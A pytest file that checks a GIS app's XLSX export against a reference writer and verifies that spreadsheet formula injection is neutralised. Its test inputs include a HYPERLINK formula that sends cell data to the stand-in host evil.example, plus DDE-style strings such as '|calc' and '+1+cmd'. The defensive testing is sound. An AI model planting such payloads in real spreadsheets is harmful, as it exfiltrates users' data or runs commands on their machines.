"""The .xlsx written by PostgreSQL (export/xlsx.py) holds what openpyxl wrote before, cell by
cell (the reference writer in tests/support/xlsx_openpyxl.py), keeps formulas out by the rule
of gis_app.core.cells, and leaves out the characters XML forbids instead of failing."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import Text, literal, select, text

from gis_app.core import cells
from gis_app.features.exchange.export.fields import fields_for
from gis_app.features.exchange.export.source import make_source
from gis_app.features.exchange.export.xlsx import write_xlsx
from gis_app.features.ledger.queries import SiteFilter
from tests.support.exports import TODAY, load_sites
from tests.support.xlsx_openpyxl import write_xlsx_openpyxl

TRICKY = [
    '=HYPERLINK("http://evil.example/?"&T11,"详情")',
    "+1+cmd",
    "-3.5",
    "+8613800000000",
    "-",
    "@SUM(A1)",
    "\tleading tab",
    "\r\ncarriage",
    "|calc",
    "  两头有空格  ",
    "a & b < c > d \"q\" 'a'",
    "第一行\n第二行",
    "-1e5",
    ".5",
    "-.5e",
    "１２３",
    "-１２",
]


@pytest.fixture()
def sites(db_session):
    load_sites(db_session, n=40)
    ids = db_session.execute(text("SELECT id FROM sites ORDER BY id")).scalars().all()
    for site_id, value in zip(ids, TRICKY, strict=False):
        db_session.execute(
            text("UPDATE sites SET address = :v, note = :v, community = :v WHERE id = :id"),
            {"v": value, "id": site_id},
        )
    db_session.execute(
        text("UPDATE sites SET community = '', area_m2 = NULL, note = '' WHERE id = :id"),
        {"id": ids[-1]},
    )
    db_session.flush()
    return ids


def _cells(data: Path | bytes) -> dict[str, list[list[tuple]]]:
    """Every sheet's cells as (value, number format of dates, bold)."""
    book = load_workbook(io.BytesIO(data) if isinstance(data, bytes) else data)
    out = {}
    for sheet in book.worksheets:
        rows = []
        for row in sheet.iter_rows():
            rows.append(
                [
                    (
                        c.value,
                        c.number_format if isinstance(c.value, datetime | date) else None,
                        bool(c.font and c.font.b),
                    )
                    for c in row
                ]
            )
        out[sheet.title] = rows
    return out


@pytest.mark.parametrize(
    ("layer", "lang", "personal"),
    [
        ("sites", "en", False),
        ("sites", "zh", False),
        ("sites", "zh", True),
        ("streets", "zh", False),
    ],
)
def test_the_sheet_is_the_one_openpyxl_wrote(
    db_session, sites, tmp_path, layer, lang, personal
) -> None:
    src = make_source(layer, SiteFilter(), TODAY)
    fields = fields_for(layer, personal)
    ours, reference = tmp_path / "ours.xlsx", tmp_path / "reference.xlsx"
    write_xlsx(db_session, src, fields, lang, ours)
    write_xlsx_openpyxl(db_session, src, fields, lang, reference)
    got, want = _cells(ours), _cells(reference)
    assert list(got) == list(want)
    for name in want:
        assert len(got[name]) == len(want[name]), name
        for number, (mine, theirs) in enumerate(zip(got[name], want[name], strict=True)):
            assert mine == theirs, (name, number)
    first = want[next(iter(want))]
    assert len(first) > 10 and all(bold for _, _, bold in first[0])  # bold header
    kinds = {type(v) for row in first[1:] for v, _, _ in row}
    assert {str, int, float, datetime}.issubset(kinds) or layer == "streets"
    if layer == "sites" and lang == "en":
        assert bool in kinds


def test_header_frozen_and_field_sheet_in_chinese(db_session, sites, tmp_path) -> None:
    path = tmp_path / "zh.xlsx"
    write_xlsx(
        db_session, make_source("sites", SiteFilter(), TODAY), fields_for("sites"), "zh", path
    )
    book = load_workbook(path)
    assert book.sheetnames == ["违建点位", "字段说明"]
    assert book["违建点位"].freeze_panes == "A2"
    header = [c.value for c in book["违建点位"][1]]
    assert header[:3] == ["标识", "编号", "街道代码"] and header[-2:] == ["经度", "纬度"]
    fields = list(book["字段说明"].iter_rows(values_only=True))
    assert list(fields[0]) == ["字段", "英文名", "中文名", "类型", "说明", "代码"]
    assert {r[1] for r in fields[1:]} >= {"address", "status", "lon", "lat"}


def test_no_formula_and_no_forbidden_character(db_session, sites, tmp_path) -> None:
    """Control characters (XML 1.0 forbids them; openpyxl failed on them) are left out, and
    a formula hidden behind one is still neutralised."""
    db_session.execute(
        text("UPDATE sites SET address = :v WHERE id = :id"),
        {"v": "\x01=1+1\x0b\x1f尾", "id": sites[0]},
    )
    path = tmp_path / "x.xlsx"
    write_xlsx(
        db_session, make_source("sites", SiteFilter(), TODAY), fields_for("sites"), "en", path
    )
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"\x01" not in sheet
    book = load_workbook(path)
    values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert "'=1+1尾" in values
    assert all(c.data_type != "f" for row in book.worksheets[0].iter_rows() for c in row)
    live = [v for v in values if isinstance(v, str) and cells.is_live(v)]
    assert live == []
    assert '\'=HYPERLINK("http://evil.example/?"&T11,"详情")' in values
    assert "-3.5" in values and "'-" in values and "'\r\ncarriage" in values


def test_the_sql_rule_is_the_python_rule(db_session) -> None:
    values = [*TRICKY, *(lead + "x" for lead in cells.FORMULA_STARTS), "", "a=b", "1-2", "+"]
    for value in values:
        sql = db_session.execute(select(cells.neutralise_sql(literal(value, Text)))).scalar_one()
        assert sql == cells.neutralise(value), repr(value)
    assert db_session.execute(select(cells.neutralise_sql(literal(None, Text)))).scalar() is None
